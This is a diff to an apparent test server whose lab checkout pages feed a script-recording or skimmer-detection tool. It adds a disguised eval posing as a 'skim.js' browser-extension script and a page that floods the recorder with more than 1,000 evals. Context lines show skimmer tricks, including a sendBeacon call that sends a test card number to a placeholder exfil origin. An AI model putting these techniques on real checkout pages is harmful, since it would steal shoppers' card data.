@@ -177,6 +177,7 @@ const tricks = (o: Origins) => `
 eval('window.__a = 1; /*eval-marker*/');
 var s = document.createElement('script'); s.textContent = 'window.__b = 2; /*injected-inline-marker*/'; document.head.appendChild(s);
 eval('window.__c = 3; /*disguised-marker*/\\n//# sourceURL=https://cdn.trusted.test/jquery.min.js');
+eval('window.__e = 5; /*extension-marker*/\\n//# sourceURL=chrome-extension://abcdefghijklmnop/skim.js');
 var d = document.createElement('script'); d.src = 'data:text/javascript,window.__d%3D4%3B%2F*data-marker*%2F'; document.head.appendChild(d);
 debugger;
 navigator.sendBeacon('${o.exfil}/b', 'card=4111');
@@ -205,6 +206,9 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
         [],
       ),
     '/lab/psp-changed/': () => page('Checkout', '<h1>Checkout</h1>', [], pspTag(o, PSP_CHANGED_PATH, sri(PSP_SCRIPT))),
+    // More run-time scripts than the recorder keeps: the visit must say so.
+    '/lab/many-scripts/': () =>
+      `<!doctype html><html><head><title>Checkout</title><script>for (var i = 0; i < 1010; i++) eval('window.__n' + i + ' = ' + i);</script></head><body><p>many</p></body></html>`,
     '/lab/tricks/': () => `<!doctype html><html><head><title>Tricks</title><script>${tricks(o)}</script></head><body><p>tricks</p></body></html>`,
   };
   const scripts: Readonly<Record<string, () => string>> = {
